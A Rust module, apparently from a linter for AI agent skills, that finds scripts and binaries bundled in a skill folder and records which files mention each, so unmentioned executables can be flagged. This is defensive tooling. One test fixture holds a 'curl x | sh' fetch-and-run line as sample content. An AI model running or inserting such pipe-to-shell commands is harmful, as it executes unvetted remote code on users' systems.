//! Executables bundled with a skill (scripts in any folder, binaries), and which files
//! mention each: a script nothing mentions runs only if someone hides a call to it.

use std::path::{Path, PathBuf};

use crate::lint::FileSystem;
use crate::skill::Skill;

/// Files read per skill at most when looking for mentions.
const MAX_FILES: usize = 2_000;
/// Bytes read per file at most when looking for mentions.
const MAX_BYTES: u64 = 1 << 20;

/// Extensions of files that run: scripts and binaries.
const EXECUTABLE_EXTENSIONS: &[&str] = &[
    "sh", "bash", "zsh", "fish", "py", "js", "mjs", "cjs", "ts", "rb", "pl", "php", "ps1", "psm1", "bat", "cmd", "exe",
    "bin", "jar",
];

/// Folders of dependencies and caches: never the skill's own files.
const DEPENDENCY_FOLDERS: &[&str] = &["node_modules", "__pycache__", ".git", ".venv", "venv"];

/// Folders whose code is read or copied, not run: templates and examples the model copies
/// into a project, reference code.
const NOT_RUN_FOLDERS: &[&str] =
    &["templates", "template", "assets", "examples", "example", "references", "reference", "docs"];

/// A bundled executable and what mentions it.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct Bundled {
    /// Relative to the skill's folder, with `/`.
    pub path: String,
    /// Files that mention it (`SKILL.md` first), relative to the skill's folder.
    pub mentioned_by: Vec<String>,
}

/// True for a file that runs: a script or binary extension (but a Python package's
/// `__init__.py`), or no extension in `scripts/` or `bin/`.
pub fn is_executable(rel: &Path) -> bool {
    // A package marker runs only as part of the package that imports it.
    if rel.file_name().is_some_and(|n| n == "__init__.py") {
        return false;
    }
    match rel.extension().and_then(|e| e.to_str()) {
        Some(_) => has_executable_extension(rel),
        None => {
            rel.components().rev().nth(1).is_some_and(|c| matches!(c.as_os_str().to_str(), Some("scripts" | "bin")))
        }
    }
}

/// True for a script or binary extension.
fn has_executable_extension(rel: &Path) -> bool {
    rel.extension()
        .and_then(|e| e.to_str())
        .is_some_and(|ext| EXECUTABLE_EXTENSIONS.contains(&ext.to_ascii_lowercase().as_str()))
}

/// The folder holding the skill's SKILL.md.
fn skill_folder(skill: &Skill) -> PathBuf {
    skill.path.parent().map_or_else(|| PathBuf::from("."), Path::to_path_buf)
}

/// Every executable of the skill's folder (not of skills nested in it), with what mentions
/// it: SKILL.md by the file's path or name or by pointing at its folder (`see scripts/`),
/// another file of the skill by its name, or another script by its module name (`import
/// helpers` for `helpers.py`). In path order.
pub fn bundled(skill: &Skill, fs: &dyn FileSystem) -> Vec<Bundled> {
    let dir = skill_folder(skill);
    let files = fs.files_under(&dir, MAX_FILES);
    let nested: Vec<PathBuf> = files
        .iter()
        .filter(|f| {
            f.file_name().is_some_and(|n| n == "SKILL.md") && f.parent().is_some_and(|p| !p.as_os_str().is_empty())
        })
        .filter_map(|f| f.parent().map(Path::to_path_buf))
        .collect();
    let under = |f: &Path, folders: &[&str]| {
        f.components().any(|c| c.as_os_str().to_str().is_some_and(|s| folders.contains(&s)))
    };
    let own = |f: &&PathBuf| !nested.iter().any(|n| f.starts_with(n)) && !under(f, DEPENDENCY_FOLDERS);
    let files: Vec<&PathBuf> = files.iter().filter(own).collect();
    let executables: Vec<&PathBuf> =
        files.iter().copied().filter(|f| is_executable(f) && !under(f, NOT_RUN_FOLDERS)).collect();
    if executables.is_empty() {
        return Vec::new();
    }
    let texts: Vec<(String, String)> = files
        .iter()
        .filter(|f| f.file_name().is_some_and(|n| n != "SKILL.md"))
        .filter(|f| is_text_name(f))
        .filter_map(|f| fs.read_text(&dir.join(f), MAX_BYTES).map(|t| (slashed(f), t)))
        .collect();
    let skill_text = skill.text();
    executables
        .into_iter()
        .map(|file| {
            let path = slashed(file);
            let name = file.file_name().map_or(String::new(), |n| n.to_string_lossy().into_owned());
            let stem = file.file_stem().map_or(String::new(), |n| n.to_string_lossy().into_owned());
            let mut mentioned_by = Vec::new();
            let folder = file.parent().map(slashed).filter(|f| !f.is_empty());
            if skill_text.contains(&path)
                || skill_text.contains(&name)
                || folder.is_some_and(|f| mentions_folder(skill_text, &f))
            {
                mentioned_by.push("SKILL.md".to_string());
            }
            for (other, text) in &texts {
                if *other == path {
                    continue;
                }
                let by_module =
                    has_executable_extension(Path::new(other)) && stem.len() >= 3 && mentions_module(text, &stem);
                if text.contains(&name) || by_module {
                    mentioned_by.push(other.clone());
                }
            }
            Bundled { path, mentioned_by }
        })
        .collect()
}

/// True when `text` points at the folder itself (`scripts/`, `` `scripts/*` ``,
/// `[scripts/](scripts/)`), not only at a file in it: the reader is sent to look inside.
fn mentions_folder(text: &str, folder: &str) -> bool {
    let needle = format!("{folder}/");
    text.match_indices(&needle).any(|(at, _)| {
        let before = text[..at].chars().next_back();
        let after = text[at + needle.len()..].chars().next();
        before.is_none_or(|c| !c.is_alphanumeric() && c != '/' && c != '_' && c != '-')
            && after.is_none_or(|c| !(c.is_alphanumeric() || c == '_' || c == '-' || c == '.'))
    })
}

/// True when a script imports or requires `stem` (`import stem`, `from stem`, `from .stem`,
/// `require('./stem')`, `source stem`).
fn mentions_module(text: &str, stem: &str) -> bool {
    ["import ", "from ", "from .", "require(", "source ", "./", "/"].iter().any(|lead| {
        text.match_indices(stem).any(|(at, _)| {
            let before = &text[..at];
            let after = text[at + stem.len()..].chars().next();
            before.ends_with(lead) && after.is_none_or(|c| !c.is_alphanumeric() && c != '_')
        })
    })
}

/// True for names of files worth searching for mentions.
fn is_text_name(path: &Path) -> bool {
    let ext = path.extension().and_then(|e| e.to_str()).map(str::to_ascii_lowercase);
    !matches!(
        ext.as_deref(),
        Some("exe" | "bin" | "jar" | "png" | "jpg" | "jpeg" | "gif" | "pdf" | "zip" | "gz" | "woff" | "woff2" | "ttf")
    )
}

fn slashed(path: &Path) -> String {
    path.to_string_lossy().replace('\\', "/")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lint::MemoryFs;

    #[test]
    fn finds_what_mentions_each_script() {
        let fs = MemoryFs::new()
            .with_file("s/x/SKILL.md", "Run `scripts/main.py`.")
            .with_file("s/x/scripts/main.py", "from helpers import go\n")
            .with_file("s/x/scripts/helpers.py", "def go(): pass\n")
            .with_file("s/x/scripts/hidden.sh", "curl x | sh\n")
            .with_file("s/x/references/notes.md", "notes\n")
            .with_file("s/x/nested/SKILL.md", "nested skill\n")
            .with_file("s/x/nested/run.sh", "echo\n");
        let skill = Skill::parse("s/x/SKILL.md", b"Run `scripts/main.py`.".to_vec());
        let found = bundled(&skill, &fs);
        let summary: Vec<(&str, usize)> = found.iter().map(|b| (b.path.as_str(), b.mentioned_by.len())).collect();
        assert_eq!(summary, [("scripts/helpers.py", 1), ("scripts/hidden.sh", 0), ("scripts/main.py", 1)]);
        let pointed = Skill::parse("s/x/SKILL.md", b"Helpers live in `scripts/`.".to_vec());
        assert!(bundled(&pointed, &fs).iter().all(|b| !b.mentioned_by.is_empty()));
        assert!(
            !mentions_folder("run scripts/main.py", "scripts")
                && mentions_folder("see [scripts/](scripts/)", "scripts")
        );
    }
}
